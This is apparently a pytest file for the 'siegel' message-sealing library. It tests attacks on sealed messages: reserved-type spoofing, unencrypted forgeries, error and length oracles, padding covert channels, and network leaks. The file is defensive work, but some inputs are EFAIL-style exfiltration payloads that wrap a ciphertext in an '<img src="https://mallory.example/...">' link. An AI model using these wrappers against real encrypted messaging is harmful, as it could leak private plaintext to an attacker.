"""Attacks on what a sealed message shows and carries, SM-8, SM-9, SM-11 … SM-13 of the catalogue (README.md)."""

from __future__ import annotations

import os
import socket
import sys
from types import ModuleType
from typing import Any

import pytest

from siegel import Contacts, Identity, SealingKeys, audit_recipients, inspect_envelope, letters, open_sealed, seal
from siegel.errors import InvalidArgument, InvalidMessage, MalformedError, NotPermitted
from tests.attacks.artefacts import letter_for, opened_by, sealed, some_contacts, some_sealing_keys
from tests.attacks.attacker import (
    ALICE,
    BOB,
    CAROL,
    CONTENT,
    MALLORY,
    NOW,
    Wire,
    cbor,
    forge,
    insight,
    pad,
    padme,
    refused,
    signed_part,
    to,
)
from tests.attacks.failures import after_a_secret

# --- SM-8: the protocol's own messages -------------------------------------------------------------------------------

RESERVED = ["siegel/", "siegel/control", "siegel/identity", "siegel/control; x=y", "siegel/\u2028"]
SIMILAR = [
    "Siegel/control",
    " siegel/control",
    "siegel",
    "x-siegel/control",
    "siegel\u200b/control",
    "siegel\uff0fcontrol",
]


@pytest.mark.parametrize("content_type", RESERVED)
def test_sm_8_an_application_cannot_speak_for_the_protocol(content_type: str) -> None:
    """matrix-js-sdk CVE-2022-39251 and others: key management arrived over a channel that was not meant for it. A
    known contact makes such a message correctly. Holds: seal refuses to make it, open never returns it (P6).
    """
    with refused(InvalidArgument):
        seal(b"text", sender=ALICE.identity, recipients=[BOB.record], content_type=content_type, at=NOW)
    for author in (ALICE, MALLORY, BOB, None):
        made = forge(author, to(BOB), inner=[content_type, NOW, b"text"])
        for data in (made, letter_for(BOB, made)):
            with refused(NotPermitted):
                opened_by(BOB, anonymous=True)(data)


@pytest.mark.parametrize("content_type", SIMILAR)
def test_sm_8_what_looks_like_it_is_not_it(content_type: str) -> None:
    """As above: types that another reader might take for reserved ones. Holds: they come out as they were written, as
    an application's; the prefix is compared once, exactly.
    """
    message = opened_by(BOB)(sealed_as(content_type))
    assert getattr(message, "content_type", None) == content_type


def sealed_as(content_type: str) -> bytes:
    return seal(b"text", sender=ALICE.identity, recipients=[BOB.record], content_type=content_type, at=NOW)


# --- SM-9: not sealed at all -----------------------------------------------------------------------------------------


def test_sm_9_an_unencrypted_text_is_no_message() -> None:
    """matrix-sdk-ui CVE-2026-45057: an unencrypted edit replaced an encrypted message. Edits come with the messenger;
    here: signed but not encrypted is nothing, at every layer (P1, P2).
    """
    wire = Wire.of(forge(ALICE, to(BOB)))
    content = cbor([CONTENT, ALICE.id, ALICE.sign(signed_part(wire.header, CONTENT))])
    for naked in (content, pad(content), cbor(CONTENT), cbor([2, 1, CONTENT]), b"meet at noon"):
        with refused(MalformedError):
            opened_by(BOB)(naked)
    for body in (pad(content) + bytes(16), pad(content[:-4]) + bytes(16)):
        wire.body = body
        with refused(InvalidMessage):
            opened_by(BOB)(wire.encode())


# --- SM-11: oracles --------------------------------------------------------------------------------------------------


def test_sm_11_a_table_of_failures_with_one_answer() -> None:
    """iMessage 2016 (gzip CRC), Bridgefy, MEGA: errors that differ after decryption are oracles. Holds: each of the
    failures, at six stages, gives one answer, and no state, key or contact is other than before (PR-12).
    """
    failures = after_a_secret()
    assert len({name.partition(":")[0] for name in failures}) == 6
    assert len(failures) > 40
    contacts, keys = some_contacts(), some_sealing_keys()
    before = contacts.encode(), keys.encode()
    answers: set[str] = set()
    for envelope in failures.values():
        for holder in (BOB.identity, keys):
            with refused(InvalidMessage) as caught:
                open_sealed(envelope, identity=holder, contacts=contacts, allow_anonymous=True)
            answers.add(repr(caught.value))
        assert (contacts.encode(), keys.encode()) == before
    assert answers == {repr(InvalidMessage())}


def test_sm_11_nothing_is_compressed() -> None:
    """As above, and CRIME: compressed before encryption, the length tells the text. Holds: texts of one length give
    envelopes of one length, whatever is in them; no module of siegel holds a compressor.
    """
    for length in (0, 100, 5000):
        texts = (bytes(length), os.urandom(length), (b"secret=1" * 1000)[:length])
        assert len({len(sealed(BOB, body=text)) for text in texts}) == 1
    compressors = {"bz2", "gzip", "lzma", "zlib", "zipfile", "tarfile"}
    modules = {name: module for name, module in sys.modules.items() if name.split(".")[0] == "siegel"}
    assert len(modules) > 15
    for name, module in modules.items():
        for value in vars(module).values():
            origin = value.__name__ if isinstance(value, ModuleType) else getattr(value, "__module__", "")
            assert str(origin).partition(".")[0] not in compressors, name


# --- SM-12: lengths --------------------------------------------------------------------------------------------------


def test_sm_12_few_sizes() -> None:
    """iMessage, WhatsApp, Telegram (Coull & Dyer 2014): lengths tell language, action, content. Holds: texts up to 4
    KiB have 80 sizes at most, each a Padmé size and at most 12 % longer than needed; texts of one size are of one
    length.
    """
    sizes: dict[int, int] = {}
    for length in range(0, 4097, 7):
        envelope = sealed(BOB, body=bytes(length))
        content = len(cbor([["text/plain", NOW, bytes(length)], ALICE.id, bytes(64)])) + 4
        size = inspect_envelope(envelope).body_bytes - 16
        assert size == padme(content) <= max(64, content * 1.12)
        assert sizes.setdefault(size, len(envelope)) == len(envelope)
    assert len(sizes) <= 80


def test_sm_12_a_padding_that_carries_something() -> None:
    """As above: a sender hides a second text in the padding, or chooses a size that marks the reader. Correctly sealed
    and signed. Holds: one padding for each text; all others are InvalidMessage (P10).
    """
    failures = {name: data for name, data in after_a_secret().items() if name.startswith("padding")}
    assert len(failures) == 9
    for data in failures.values():
        with refused(InvalidMessage):
            opened_by(BOB)(data)


def test_sm_12_a_body_of_no_padded_size() -> None:
    """As above, seen without a key: a body whose size is none that padding gives. Holds: malformed for everybody."""
    wire = Wire.of(sealed(BOB))
    good = wire.body
    for size in (*range(80), len(good) - 1, len(good) + 1, 65 + 16, 71 + 16, 1025 + 16):
        wire.body = good.ljust(size, b"\0")[:size]
        for read in (opened_by(BOB), inspect_envelope):
            with refused(MalformedError):
                read(wire.encode())


# --- SM-13: leaks by doing more --------------------------------------------------------------------------------------


def test_sm_13_nothing_needs_a_socket(monkeypatch: pytest.MonkeyPatch) -> None:
    """EFAIL, link previews (Nostr, LINE, WhatsApp CVE-2026-23866): opening a message talks to somebody. Holds: a whole
    life without sockets; a text that looks like a link is bytes.
    """

    def never(*_: Any, **__: Any) -> Any:
        raise AssertionError("a socket was wanted")

    for name in ("socket", "create_connection", "getaddrinfo", "gethostbyname"):
        monkeypatch.setattr(socket, name, never)
    bob = Identity.generate()
    keys = SealingKeys(bob)
    contacts = Contacts(bob.user_id)
    contacts.add(ALICE.record, name="alice")
    link = b'<img src="https://mallory.example/?' + b"x" * 50 + b'">'
    envelope = seal(link, sender=ALICE.identity, recipients=[keys.rotate(at=NOW), CAROL.record], at=NOW)
    audit_recipients(envelope, allowed=[bob.user_id, CAROL.user_id])
    for data in (envelope, dict(letters(envelope))[bob.user_id]):
        message = open_sealed(data, identity=keys, contacts=contacts)
        assert message.body == link
        assert type(message.body) is bytes


def test_sm_13_nothing_stands_beside_a_message() -> None:
    """As above: a ciphertext between two plain parts, whose result is joined into one. Holds: the input is one message
    and nothing else, or refused (P10).
    """
    envelope = sealed(BOB)
    wrapped = [
        b"\n" + envelope,
        envelope + b"\n",
        b'<img src="https://mallory.example/' + envelope + b'">',
        envelope + envelope,
        sealed(CAROL) + envelope,
        cbor([envelope]),
        cbor(envelope),
        cbor([2, 1, *[envelope] * 4]),
        envelope.hex().encode(),
    ]
    for data in wrapped:
        for read in (opened_by(BOB), inspect_envelope, letters):
            with refused(MalformedError):
                read(data)
    assert insight(envelope, BOB).inner[2] == b"meet at noon"
